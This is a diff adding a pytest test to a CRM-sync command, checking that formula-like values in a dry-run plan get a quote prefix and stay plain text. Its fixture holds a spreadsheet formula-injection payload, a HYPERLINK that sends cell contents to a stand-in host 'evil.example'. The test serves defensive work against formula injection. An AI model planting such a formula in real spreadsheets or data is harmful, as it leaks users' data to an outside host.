@@ -274,6 +274,26 @@ def test_dry_run_writes_the_planned_changes_and_changes_nothing(crm, wh, run, cf
     assert crm_by_id(crm)["C00001"]["Tierline_Tier"] == "Regular"
 
 
+def test_a_dry_run_plan_is_safe_to_open_in_a_spreadsheet(crm, wh, cfg, monkeypatch, tmp_path, capsys):
+    """Issue 12 item 6: a value from the data that a spreadsheet would run as a formula is plain text."""
+    publish(wh, [customer(1, tier_reason='=HYPERLINK("http://evil.example/?"&A1,"click")'),
+                 customer(2, tier_reason="@SUM(1+1)"), customer(3)])
+    for name, value in {**crm.env(), crm_config.ENV_CONFIG: str(cfg.path)}.items():
+        monkeypatch.setenv(name, value)
+    monkeypatch.setenv("TIERLINE_HOME", str(tmp_path))
+
+    assert cli.main(["crm-sync", "--dry-run"]) == 0
+
+    path = json.loads(capsys.readouterr().out)["dry_run_file"]
+    by_customer = {line["customer_id"]: line for line in map(json.loads, open(path, encoding="utf-8"))
+                   if "customer_id" in line}
+    reasons = {c: line["changes"]["Tierline_Tier_Reason"]["new"] for c, line in by_customer.items()}
+    assert reasons["C00001"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert reasons["C00002"] == "'@SUM(1+1)"
+    assert reasons["C00003"] == customer(3)["tier_reason"]
+    assert by_customer["C00003"]["changes"]["Tierline_Churn_Risk"]["new"] == 0.123  # numbers stay numbers
+
+
 def test_a_persons_edit_is_recorded_as_a_conflict_and_not_overwritten(crm, wh, run):
     rows = [customer(1), customer(2)]
     publish(wh, rows)
